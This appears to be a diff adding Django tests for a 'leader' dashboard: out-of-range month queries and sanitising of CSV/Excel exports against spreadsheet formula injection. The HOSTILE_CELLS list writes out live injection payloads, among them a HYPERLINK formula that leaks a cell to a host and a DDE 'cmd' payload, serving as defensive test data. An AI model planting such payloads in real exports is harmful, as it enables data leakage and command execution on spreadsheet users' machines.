@@ -318,3 +318,55 @@ def test_the_leader_page_takes_the_same_queries_whatever_the_rows(counted):
         response = client.get("/leader/?month=2026-10")
     assert len(response.context["escalated"].rows) == 7
     assert len(few.captured_queries) == len(many.captured_queries)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("month", ["0001-01", "0001-02", "1999-12", "9999-12"])
+def test_a_month_out_of_range_is_explained_not_a_server_error(counted, month):
+    """The assessment: ``/leader/?month=0001-01`` and the exports with ``month=0001-02`` answered 500
+    (the trend reaches back to year 0)."""
+    client = _leader(counted["world"])
+    response = client.get(f"/leader/?month={month}")
+    assert response.status_code == 200
+    assert response.context["month_error"] and month in response.content.decode()
+    for slug in ("departments-month", "district-by-month"):
+        export = client.get(f"/leader/export/{slug}.csv?month={month}")
+        assert export.status_code == 400 and "2000-01" in export.content.decode()
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://127.0.0.1:1/leak?"&B2,"Details")', "+1+cmd|' /C calc'!A0", "-2+3",
+                 "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("title", HOSTILE_CELLS)
+def test_no_export_writes_a_live_formula(counted, title):
+    """The assessment: a request titled ``=HYPERLINK(...)`` came out live in ``/leader/export/escalated.csv``.
+    Every text cell that a spreadsheet would read as a formula starts with an apostrophe, in CSV and
+    in Excel; numbers (a negative count included) stay numbers."""
+    from openpyxl import load_workbook
+
+    escalated = counted["a4"]
+    request = escalated.work_order.request
+    request.title = title
+    request.save(update_fields=["title"])
+    client = _leader(counted["world"])
+    content = client.get("/leader/export/escalated.csv").content.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(content[1:], newline="")))
+    titles = [row[1] for row in rows[1:] if row[0] == request.tracking_number]
+    assert titles == ["'" + title]
+    sheet = load_workbook(io.BytesIO(client.get("/leader/export/escalated.xlsx").content)).active
+    cells = [row for row in sheet.iter_rows(values_only=True) if row[0] == request.tracking_number]
+    # (XML turns a stored carriage return into a line feed when the workbook is read back.)
+    assert [row[1] for row in cells] == ["'" + title.replace("\r", "\n")]
+    assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+               for row in rows for cell in row)
+
+
+def test_the_one_spreadsheet_helper_leaves_numbers_and_plain_text_alone():
+    from core.downloads import spreadsheet_text
+
+    assert spreadsheet_text("-3") == "'-3"
+    assert spreadsheet_text("Tiancheng =1") == "Tiancheng =1"
+    assert spreadsheet_text("") == ""
+    assert spreadsheet_text("天成") == "天成"
